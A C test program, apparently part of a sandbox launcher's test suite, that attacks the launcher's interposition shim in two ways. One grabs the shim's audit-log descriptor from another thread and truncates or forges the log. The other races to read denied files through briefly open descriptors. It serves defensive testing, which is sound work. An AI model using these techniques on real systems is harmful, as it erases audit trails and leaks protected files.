/* What the shim holds for a moment inside the program's own process,
 * reached by another thread of the program. Built dynamic (the shim loads)
 * by tests/attack_log_test.cc; one attack per argv[1]:
 *
 *   steal-log DENIED TRIES
 *       The main thread opens DENIED (refused) up to TRIES times; each
 *       refusal makes the shim open the audit log, write one line and close
 *       it, in this process. A second thread scans descriptors 3..64 with
 *       fcntl(F_GETFL); when it sees a write-only O_APPEND descriptor it
 *       dups it. With the log in hand the program clears O_APPEND and
 *       rewrites the log from offset 0 (truncating it if it may, else
 *       overwriting every byte with a forged record and blank lines, which
 *       klaunch's reader skips), then appends a second forged record.
 *
 *   read-race DENIED TRIES
 *       The main thread opens DENIED (refused) up to TRIES times; three
 *       threads pread() descriptors 3..12, the lowest free numbers, which is
 *       where the shim's open for reading puts the denied file before it
 *       judges and closes it. Whatever they read is printed.
 *
 * The program prints what it got; the test checks the world (the log, the
 * output). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define FORGED_MARK "FORGED-BY-THE-PROGRAM"

static volatile int stop;

/* --- steal-log ----------------------------------------------------------- */

static volatile int caught = -1;

static void* scan_for_log(void* arg) {
  (void)arg;
  while (!stop) {
    for (int fd = 3; fd <= 64 && !stop; ++fd) {
      const int fl = fcntl(fd, F_GETFL);
      if (fl < 0 || (fl & O_ACCMODE) != O_WRONLY || !(fl & O_APPEND)) continue;
      const int mine = fcntl(fd, F_DUPFD_CLOEXEC, 200);
      if (mine < 0) continue;
      /* Still the same kind of descriptor (the shim may have closed it and
       * the number been reused between the two calls), and a file. */
      struct stat st;
      const int again = fcntl(mine, F_GETFL);
      if (again >= 0 && (again & O_ACCMODE) == O_WRONLY && (again & O_APPEND) &&
          fstat(mine, &st) == 0 && S_ISREG(st.st_mode)) {
        caught = mine;
        stop = 1;
        return NULL;
      }
      close(mine);
    }
  }
  return NULL;
}

static const char kForged[] =
    "{\"time\":\"2000-01-01T00:00:00.000Z\",\"pid\":1,\"exe\":\"klaunch\","
    "\"op\":\"start\",\"target\":\"\",\"access\":\"\",\"verdict\":\"info\","
    "\"rule\":\"\",\"message\":\"" FORGED_MARK
    ": nothing happened here\","
    "\"layer\":\"launcher\"}\n";

static int steal_log(const char* denied, int tries) {
  pthread_t t;
  pthread_create(&t, NULL, scan_for_log, NULL);
  int refused = 0, opened = 0, other = 0;
  for (int i = 0; i < tries && !stop; ++i) {
    const int fd = open(denied, O_RDONLY);
    if (fd >= 0) {
      ++opened;
      close(fd);
    } else if (errno == EACCES) {
      ++refused;
    } else {
      ++other;
    }
  }
  stop = 1;
  pthread_join(t, NULL);
  printf("steal-log: %d refusals, %d opens, %d other errors\n", refused, opened,
         other);
  if (caught < 0) {
    printf("steal-log: never caught the log's descriptor\n");
    return 0;
  }
  const int fd = caught;
  struct stat st;
  fstat(fd, &st);
  printf("steal-log: caught a descriptor of the log (%lld bytes)\n",
         (long long)st.st_size);
  const int cleared = fcntl(fd, F_SETFL, 0);
  printf("steal-log: clearing O_APPEND %s\n",
         cleared == 0 ? "done" : strerror(errno));
  const size_t n = strlen(kForged);
  if (ftruncate(fd, 0) == 0) {
    const ssize_t w = pwrite(fd, kForged, n, 0);
    printf("steal-log: truncated it and wrote %zd bytes at offset 0\n", w);
  } else {
    printf("steal-log: truncate: %s; overwriting instead\n", strerror(errno));
    size_t size = (size_t)st.st_size > n ? (size_t)st.st_size : n;
    char* buf = malloc(size);
    memset(buf, '\n', size);
    memcpy(buf, kForged, n);
    const ssize_t w = pwrite(fd, buf, size, 0);
    printf("steal-log: overwrote %zd bytes from offset 0\n", w);
    free(buf);
  }
  /* And one more, at the end, as any writer of the log would. */
  fcntl(fd, F_SETFL, O_APPEND);
  const ssize_t w = write(fd, kForged, n);
  printf("steal-log: appended a forged record: %zd bytes\n", w);
  close(fd);
  return 0;
}

/* --- read-race ------------------------------------------------------------ */

static volatile int leaked;
static char leak[128];

static void* read_low_descriptors(void* arg) {
  (void)arg;
  char buf[128];
  while (!stop) {
    for (int fd = 3; fd <= 12 && !stop; ++fd) {
      const ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);
      if (n <= 0) continue;
      buf[n] = '\0';
      if (__atomic_fetch_add(&leaked, 1, __ATOMIC_SEQ_CST) == 0) {
        memcpy(leak, buf, (size_t)n + 1);
      }
      stop = 1;
    }
  }
  return NULL;
}

static int read_race(const char* denied, int tries) {
  pthread_t t[3];
  for (int i = 0; i < 3; ++i)
    pthread_create(&t[i], NULL, read_low_descriptors, NULL);
  int refused = 0, opened = 0, other = 0;
  for (int i = 0; i < tries && !stop; ++i) {
    const int fd = open(denied, O_RDONLY);
    if (fd >= 0) {
      ++opened;
      close(fd);
    } else if (errno == EACCES) {
      ++refused;
    } else {
      ++other;
    }
  }
  stop = 1;
  for (int i = 0; i < 3; ++i) pthread_join(t[i], NULL);
  printf("read-race: %d refusals, %d opens, %d other errors\n", refused, opened,
         other);
  if (leaked) {
    printf("read-race: read from a descriptor it never got: '%s'\n", leak);
  } else {
    printf("read-race: read nothing\n");
  }
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc == 4 && !strcmp(argv[1], "steal-log")) {
    return steal_log(argv[2], atoi(argv[3]));
  }
  if (argc == 4 && !strcmp(argv[1], "read-race")) {
    return read_race(argv[2], atoi(argv[3]));
  }
  fprintf(stderr, "usage: %s steal-log|read-race DENIED TRIES\n", argv[0]);
  return 2;
}
